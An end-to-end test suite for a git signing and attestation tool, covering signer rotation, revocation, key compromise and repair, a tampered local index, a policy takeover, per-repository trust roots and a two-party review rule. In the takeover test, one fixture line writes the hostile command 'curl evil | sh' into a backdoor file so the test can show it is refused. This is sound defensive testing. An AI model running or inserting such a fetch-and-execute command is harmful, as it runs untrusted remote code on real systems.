// Trust that survives time and attack (issue 7, DESIGN §2.2 and §2.5), on real repositories with real
// pushes: policy epochs (rotation, departure, compromise and repair), one trust root per repository, a
// CI replay that verifies the policy history back to genesis, a verified index that cannot lie, and
// identities that come from signatures. Each attack is first shown to be what an attacker would try.
import { expect } from 'chai';
import { copyFileSync, chmodSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { authorWorkstream, ceremony, CSAE_BIN, must, parseJson, show, useTempDirs, writeKeyPair, zeros, type Ceremony, type Workstream } from '../helpers/gitrepo.js';
import { rewriteIndex } from '../helpers/stateindex.js';

/** Cover everything between origin/main and HEAD with a retroactive entry by the operator, then push it. */
async function land(c: Ceremony, reason: string): Promise<void> {
  await must(c.w(['-q', 'bundle', 'retroactive', '--range', 'origin/main..HEAD', '--reason', reason, '--key', c.operatorKey]), `retroactive (${reason})`);
  const r = await c.gr(['push', '-q', 'origin', 'HEAD:main']);
  expect(r.code, show(r)).to.equal(0);
}

async function commitPolicy(c: Ceremony, message: string): Promise<string> {
  await c.g(['add', '.csae']);
  await c.g(['commit', '-q', '--no-verify', '-m', message]);
  return c.rev('HEAD');
}

async function replayJson(c: Ceremony, ref = 'origin/main'): Promise<{ code: number; j: any; raw: string }> {
  const r = await c.w(['verify', '--ref', ref, '--json']);
  return { code: r.code, j: parseJson(r), raw: show(r) };
}

describe('e2e: trust over time — rotation, departure, compromise, a tampered cache, a policy takeover', function () {
  this.timeout(300_000);
  useTempDirs();
  let c: Ceremony;
  let bob: { key: string; pub: string };
  let carl: { key: string; pub: string };
  let p1 = '';
  let p2 = '';
  let carlWs: Workstream;

  before(async () => {
    c = await ceremony();
    bob = writeKeyPair(join(c.root, 'bob.key'));
    carl = writeKeyPair(join(c.root, 'carl.key'));
  });

  it('a second and third signer are trusted through a covered policy change (entry 1)', async () => {
    await must(c.w(['policy', 'trust', '--bundles', '--name', 'bob', '--email', 'bob@example.com', '--key', bob.pub]), 'trust bob');
    await must(c.w(['policy', 'trust', '--bundles', '--name', 'carl', '--key', carl.pub]), 'trust carl');
    p1 = await commitPolicy(c, 'trust bob and carl');
    await land(c, 'policy change: bob and carl join');
  });

  it('the new signers sign; their entries cover pushes (entries 2 and 3)', async () => {
    await authorWorkstream(c, 'ws-bob', { n: 1 });
    await must(c.w(['-q', 'bundle', 'publish', '--key', bob.key]), 'publish by bob');
    carlWs = await authorWorkstream(c, 'ws-carl', { n: 1 });
    await must(c.w(['-q', 'bundle', 'publish', '--key', carl.key]), 'publish by carl');
    const r = await c.gr(['push', '-q', 'origin', 'HEAD:main']);
    expect(r.code, show(r)).to.equal(0);
  });

  it('revoking a departed signer keeps its history covered and locks nothing (entry 4)', async () => {
    const rv = await c.w(['policy', 'revoke', '--name', 'bob', '--json']);
    expect(rv.code, show(rv)).to.equal(0);
    expect(parseJson(rv)).to.include({ ok: true, compromised: false });
    p2 = await commitPolicy(c, 'bob left');
    // BUG before: the revocation could not even be published (the chain "broke" under the new policy)
    await land(c, 'policy change: bob leaves');
    const { code, j, raw } = await replayJson(c);
    expect(code, raw).to.equal(0);
    const ref = j.refs[0];
    // every entry says which policy version it was verified under
    const e2 = ref.entries.find((e: any) => e.seq === 2);
    expect(e2).to.include({ ok: true, signer: 'bob <bob@example.com>', policy: p1 });
    expect(ref.trustRoot.versions.map((v: any) => v.commit)).to.deep.equal([c.genesis, p1, p2]);
    expect(ref.trustRoot.versions.map((v: any) => v.from)).to.deep.equal([0, 1, 4]);
    expect(ref.trustRoot.failures).to.deep.equal([]);
    const mv = await c.w(['mirror', 'verify', '--json']);
    expect(mv.code, show(mv)).to.equal(0);
    const w = parseJson(mv);
    expect(w.voided).to.deep.equal([]);
    expect(w.entries.find((e: any) => e.seq === 2).policy).to.deep.equal({ epoch: 1, commit: p1 });
    expect(w.entries.find((e: any) => e.seq === 2).identity).to.equal('bob <bob@example.com>');
  });

  it("the departed signer's new entries are refused, and everyone else's pushes keep working (entry 5)", async () => {
    await authorWorkstream(c, 'ws-late', { n: 1 });
    const refused = await c.w(['bundle', 'publish', '--key', bob.key, '--json']);
    expect(refused.code, show(refused)).to.equal(2);
    expect(parseJson(refused).results[0].error.code).to.equal('config');
    await must(c.w(['-q', 'bundle', 'publish', '--key', c.operatorKey]), 'publish by olive');
    const r = await c.gr(['push', '-q', 'origin', 'HEAD:main']);
    expect(r.code, show(r)).to.equal(0);
  });

  it('bad input to revoke: an unknown name, --since past the log, --since without --compromised (exit 2, policy untouched)', async () => {
    const before = readFileSync(join(c.work, '.csae/policy.yaml'), 'utf8');
    for (const [args, pattern] of [
      [['--name', 'nobody'], /no signer named "nobody"/],
      [['--name', 'carl', '--compromised', '--since', '99'], /--since 99 is past the end of the audit log \(its last entry is 5\)/],
      [['--name', 'carl', '--since', '2'], /--since only applies to a compromised signer/],
      [['--name', 'carl', '--compromised', '--since', '0'], /--since must be an entry seq/],
    ] as const) {
      const r = await c.w(['policy', 'revoke', ...args, '--json']);
      expect(r.code, show(r)).to.equal(2);
      const err = parseJson(r).error;
      expect(err.code).to.equal('usage');
      expect(err.message).to.match(pattern);
      expect(err.next, 'names the next step').to.be.a('string');
      expect(r.stderr).to.not.match(/\n\s+at /);
    }
    expect(readFileSync(join(c.work, '.csae/policy.yaml'), 'utf8')).to.equal(before);
  });

  it('compromise: the entry becomes void and named, the repair appends at the head, re-attestation restores the replay', async () => {
    await must(c.w(['policy', 'revoke', '--name', 'carl', '--compromised']), 'revoke carl --compromised');
    const p3 = await commitPolicy(c, "carl's key leaked");
    await land(c, 'policy change: carl compromised'); // entry 6
    // carl's entry 3 is distrusted under every epoch: its commits are uncovered again
    const bad = await replayJson(c);
    expect(bad.code, bad.raw).to.equal(1);
    const uncovered = bad.j.refs[0].uncovered.map((d: any) => d.commit);
    expect(uncovered).to.include.members([carlWs.a0, ...carlWs.work, carlWs.attestation]);
    expect(bad.j.refs[0].trustRoot.versions.map((v: any) => v.commit)).to.deep.equal([c.genesis, p1, p2, p3]);
    const mv = await c.w(['mirror', 'verify', '--json']);
    expect(mv.code, show(mv)).to.equal(1);
    const w = parseJson(mv);
    expect(w.problems).to.deep.equal([]);
    expect(w.voided.map((v: any) => [v.seq, v.why, v.repairedBy])).to.deep.equal([[3, 'authority', undefined]]);
    expect(w.voided[0].checks.find((x: any) => !x.ok).detail).to.match(/carl, whose key is revoked as compromised from entry 1/);
    // the repair names the break and is appended at the mirror head (after entries 4-6), not on entry 3
    const rep = await c.w(['chain', 'repair', '--break', '3', '--reason', "carl's key leaked", '--key', c.operatorKey, '--json']);
    expect(rep.code, show(rep)).to.equal(0);
    const mirrorLog = (await c.git.ok(c.mirror, ['rev-list', '--first-parent', 'main'])).split('\n');
    expect(mirrorLog).to.have.length(7);
    const ok = await c.w(['mirror', 'verify', '--json']);
    expect(ok.code, show(ok)).to.equal(0);
    expect(parseJson(ok).voided.map((v: any) => [v.seq, v.repairedBy])).to.deep.equal([[3, 7]]);
    // the commits carl's entry listed are re-attested, honestly post hoc
    await must(c.w(['-q', 'bundle', 'retroactive', '--range', `${carlWs.base}..${carlWs.attestation}`, '--reason', 're-attest after the compromise', '--key', c.operatorKey]), 're-attest');
    const good = await replayJson(c);
    expect(good.code, good.raw).to.equal(0);
    const e8 = good.j.refs[0].entries.find((e: any) => e.seq === 8);
    expect(e8).to.include({ ok: true, kind: 'retroactive', confidence: 'post-hoc', policy: p3 });
  });

  it('a tampered .git/csae is not believed: the verified index may say where to look, never what is true', async () => {
    const sneaky = await c.commit('sneaky.txt', 'not reviewed\n', 'uncovered change');
    const state = join(c.work, '.git', 'csae');
    // the attacker adds the commit to entry 5 in the verified index and the claim lookup
    rewriteIndex(state, (st) => {
      st.entries.find((e) => e.seq === 5)!.predicate.range.commits.push(sneaky);
    });
    const r = await c.w(['hook', 'pre-push', 'origin', c.canon, '--json'], { input: `refs/heads/main ${sneaky} refs/heads/main ${await c.rev('origin/main')}\n` });
    expect(r.code, show(r)).to.equal(1);
    const rep = parseJson(r).refs[0];
    expect(rep.uncovered.map((d: any) => d.commit)).to.deep.equal([sneaky]);
    const push = await c.gr(['push', 'origin', 'HEAD:main']);
    expect(push.code, show(push)).to.not.equal(0);
    const v = await replayJson(c, 'main');
    expect(v.code, v.raw).to.equal(1);
    expect(v.j.refs[0].uncovered.map((d: any) => d.commit)).to.deep.equal([sneaky]);
    await c.g(['reset', '-q', '--hard', 'origin/main']);
  });

  it('the CI replay refuses a policy takeover pushed around the hook, naming the policy commit', async () => {
    const mallory = writeKeyPair(join(c.root, 'mallory.key'));
    const backdoor = await c.commit('backdoor.sh', 'curl evil | sh\n', 'harmless tweak');
    await must(c.w(['policy', 'trust', '--bundles', '--name', 'mallory', '--key', mallory.pub]), 'trust mallory');
    await must(c.w(['policy', 'set', 'cutover', backdoor]), 'move the cutover');
    const takeover = await commitPolicy(c, 'routine policy update');
    const p = await c.gr(['push', '-q', '--no-verify', 'origin', 'HEAD:main']);
    expect(p.code, show(p)).to.equal(0);
    // mallory signs a retroactive entry for what is left after her cutover (it may or may not publish)
    await c.w(['-q', 'bundle', 'retroactive', '--range', `${backdoor}..${takeover}`, '--reason', 'routine', '--key', mallory.key]);
    const { code, j, raw } = await replayJson(c);
    expect(code, raw).to.equal(1);
    const ref = j.refs[0];
    expect(ref.trustRoot.failures.map((f: any) => f.commit)).to.deep.equal([takeover]);
    expect(ref.trustRoot.failures[0].reason).to.match(/not covered by any entry/);
    expect(ref.next).to.contain(takeover.slice(0, 12));
  });
});

describe('e2e: one trust root per repository — a new protected branch cannot bring its own policy', function () {
  this.timeout(240_000);
  useTempDirs();
  let c: Ceremony;
  const CSAE = `${process.execPath} ${CSAE_BIN}`;

  before(async () => {
    c = await ceremony({ protect: ['refs/heads/main', 'refs/heads/release/*'] });
    copyFileSync(join(process.cwd(), 'hooks', 'pre-receive'), join(c.canon, 'hooks', 'pre-receive'));
    chmodSync(join(c.canon, 'hooks', 'pre-receive'), 0o755);
  });

  for (const [what, edit] of [
    ['deletes .csae/policy.yaml', async (c: Ceremony) => c.g(['rm', '-q', '.csae/policy.yaml'])],
    ['drops the release/* pattern', async (c: Ceremony) => must(c.w(['policy', 'set', 'protect', 'refs/heads/main']), 'policy set protect')],
  ] as const) {
    it(`a new release/1.0 whose tip ${what} is refused by pre-push, pre-receive and verify alike`, async () => {
      const branch = `release/1.0-${what.split(' ')[0]}`;
      await c.g(['checkout', '-q', '-B', branch, 'main']);
      await edit(c);
      await c.g(['add', '-A']);
      await c.g(['commit', '-q', '--no-verify', '-m', 'release prep']);
      const dropped = await c.rev('HEAD');
      await c.commit('unreviewed.txt', 'x\n', 'unreviewed change');
      const tip = await c.rev('HEAD');
      // the client hook: the trust root is main's policy, not the pushed one
      const hook = await c.w(['hook', 'pre-push', 'origin', c.canon, '--json'], { input: `refs/heads/${branch} ${tip} refs/heads/${branch} ${zeros(c.format)}\n` });
      expect(hook.code, show(hook)).to.equal(1);
      const rep = parseJson(hook).refs[0];
      expect(rep.ref).to.equal(`refs/heads/${branch}`);
      expect(rep.uncovered.map((d: any) => d.commit)).to.deep.equal([dropped, tip]);
      // the server hook, for a push that went around the client hook
      const push = await c.gr(['push', '--no-verify', 'origin', `HEAD:refs/heads/${branch}`], { env: { CSAE } });
      expect(push.code, show(push)).to.not.equal(0);
      expect((await c.git.run(c.canon, ['rev-parse', '--verify', '-q', `refs/heads/${branch}`])).code).to.not.equal(0);
      // the CI replay: the policy change on the branch is not covered
      const v = await replayJson(c, branch);
      expect(v.code, v.raw).to.equal(1);
      expect(v.j.refs[0].trustRoot.failures.map((f: any) => f.commit)).to.deep.equal([dropped]);
      await c.g(['checkout', '-q', 'main']);
    });
  }

  it('control: a new release branch at main is accepted (nothing new to cover)', async () => {
    const push = await c.gr(['push', 'origin', 'main:refs/heads/release/2.0'], { env: { CSAE } });
    expect(push.code, show(push)).to.equal(0);
  });
});

describe('e2e: identities come from signatures (twoParty)', function () {
  this.timeout(240_000);
  useTempDirs();
  let c: Ceremony;

  before(async () => {
    c = await ceremony({ push: false });
    await must(c.w(['policy', 'set', 'twoParty', 'true']), 'twoParty');
    // the operator may also review — others' work: the two-party rule must still stop self-review
    await must(c.w(['policy', 'trust', '--verdicts', '--name', 'olive', '--key', c.operatorPub]), 'olive reviews too');
    await c.g(['add', '.csae']);
    await c.g(['commit', '-q', '--no-verify', '--amend', '--no-edit']);
    c.genesis = await c.rev('HEAD');
    await must(c.gr(['push', '-q', 'origin', 'main']), 'genesis push');
  });

  it("the reviewer's verdict recorded in the operator's clone passes (declared names decide nothing)", async () => {
    // BUG before: the declared reviewer (the operator's git identity) was compared with the operator
    await authorWorkstream(c, 'ws-reviewed', { publish: true });
    const r = await c.gr(['push', '-q', 'origin', 'HEAD:main']);
    expect(r.code, show(r)).to.equal(0);
    const who = parseJson(await c.w(['audit', 'who', 'HEAD', '--json']));
    expect(who.covered).to.equal(true);
    expect(who.verdicts[0].signer).to.equal('rita');
  });

  it('a self-review is refused whatever reviewer name it declares', async () => {
    const base = await c.rev('HEAD');
    await must(c.w(['-q', 'intent', 'register', '--workstream', 'ws-self', '--intent', 'Review my own work']), 'intent');
    await c.commit('self.txt', 'self\n', 'self-reviewed change');
    const v = parseJson(await must(c.w(['verdict', 'record', '--range', `${base}..HEAD`, '--status', 'pass', '--score', '9', '--floor', '7', '--reviewer', 'Rita Reviewer <rita@example.com>', '--key', c.operatorKey, '--json']), 'self verdict'));
    await must(c.w(['-q', 'bundle', 'author', '--workstream', 'ws-self', '--verdict', v.path]), 'author');
    const pub = await c.w(['bundle', 'publish', '--key', c.operatorKey, '--json']);
    expect(pub.code, show(pub)).to.equal(1);
    const err = parseJson(pub).results[0].error;
    expect(err.code).to.equal('verification-failed');
    expect(err.message).to.match(/two-party rule: the verdict is signed by olive, who also signs the bundle \(declared reviewer: Rita Reviewer <rita@example.com>\)/);
    await c.g(['reset', '-q', '--hard', base]);
  });

  it("a retroactive entry needs a second party's verdict under twoParty", async () => {
    const base = await c.rev('HEAD');
    await c.commit('hotfix.txt', 'fix\n', 'hotfix without intent');
    const solo = await c.w(['bundle', 'retroactive', '--range', `${base}..HEAD`, '--reason', 'hotfix', '--key', c.operatorKey, '--json']);
    expect(solo.code, show(solo)).to.equal(1);
    expect(parseJson(solo).error.message).to.match(/a retroactive entry needs a passing verdict by someone other than its signer/);
    const v = parseJson(await must(c.w(['verdict', 'record', '--range', `${base}..HEAD`, '--status', 'pass', '--score', '8', '--floor', '7', '--key', c.reviewerKey, '--json']), 'rita reviews'));
    await must(c.w(['-q', 'bundle', 'retroactive', '--range', `${base}..HEAD`, '--reason', 'hotfix', '--verdict', v.path, '--key', c.operatorKey]), 'retroactive with a second party');
    const r = await c.gr(['push', '-q', 'origin', 'HEAD:main']);
    expect(r.code, show(r)).to.equal(0);
  });

  it('a shallow clone cannot establish the policy history: exit 3, saying how to fetch it', async () => {
    const shallow = join(c.root, 'shallow');
    await c.git.ok(c.root, ['clone', '-q', '--depth', '1', `file://${c.canon}`, shallow]);
    const r = await c.csae(['verify', '--ref', 'origin/main', '--no-deepen', '--json'], { cwd: shallow });
    expect(r.code, show(r)).to.equal(3);
    const err = parseJson(r).error;
    expect(err.code).to.equal('shallow-history');
    expect(err.next).to.contain('git fetch --unshallow');
    // by default verify fetches the missing history from the remote, then verifies it
    const deep = await c.csae(['verify', '--ref', 'origin/main', '--json'], { cwd: shallow });
    expect(deep.code, show(deep)).to.equal(0);
    expect(parseJson(deep).refs[0].trustRoot.versions[0].commit).to.equal(c.genesis);
  });
});
